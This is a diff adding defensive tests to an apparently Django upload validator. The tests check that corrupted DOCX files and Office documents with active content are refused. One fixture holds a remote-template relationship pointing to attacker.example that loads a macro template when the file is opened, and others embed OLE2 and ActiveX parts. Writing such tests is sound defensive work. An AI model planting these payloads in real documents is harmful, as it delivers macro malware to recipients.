@@ -435,3 +435,52 @@ def test_production_refuses_to_start_without_a_virus_scan_unless_acknowledged(ch
     result = _production_check(**changes)
     assert (result.returncode == 0) is starts, result.stderr[-2000:]
     assert message in result.stderr
+
+
+# --- helper-13, attack on issue 12 ------------------------------------------------------------
+
+
+def _docx_with_corrupt_deflate() -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types>" + "x" * 2000 + "</Types>")
+        archive.writestr("_rels/.rels", "<r/>")
+        archive.writestr("word/document.xml", "<d/>")
+    data = bytearray(buffer.getvalue())
+    start = 30 + len("[Content_Types].xml")
+    data[start] = data[start + 1] = 0xFF  # an invalid deflate block: zlib.error when read
+    return bytes(data)
+
+
+@pytestmark_db
+def test_a_damaged_office_file_is_refused_next_to_the_field_and_the_report_is_kept(client, no_clamd, media_root):
+    response = _post(client, SimpleUploadedFile("notat.docx", _docx_with_corrupt_deflate()))
+    assert "DOCX-fil" in _assert_refused_and_nothing_stored(response, media_root)
+
+
+_REMOTE_TEMPLATE_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?>'
+    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+    'attachedTemplate" Target="https://attacker.example/skabelon.dotm" TargetMode="External"/></Relationships>'
+)
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        {"word/_rels/settings.xml.rels": _REMOTE_TEMPLATE_RELS},  # loads a macro template when opened
+        {"word/embeddings/oleObject1.bin": OLE2},  # an embedded OLE2 object
+        {"word/activeX/activeX1.xml": "<ax/>"},  # an ActiveX control
+    ],
+)
+def test_office_documents_that_load_or_embed_active_content_are_refused_as_macros(no_clamd, extra):
+    form = _form([SimpleUploadedFile("notat.docx", _ooxml("docx", extra=extra))])
+    assert not form.is_valid()
+    assert form.errors.as_data()["attachments"][0].code == "macros"
+
+
+def test_an_embedded_picture_or_an_ordinary_link_is_no_active_content(no_clamd):
+    link = _REMOTE_TEMPLATE_RELS.replace("attachedTemplate", "hyperlink")
+    document = _ooxml("docx", extra={"word/_rels/document.xml.rels": link, "word/media/image1.png": _image("PNG")})
+    assert _form([SimpleUploadedFile("notat.docx", document)]).is_valid()
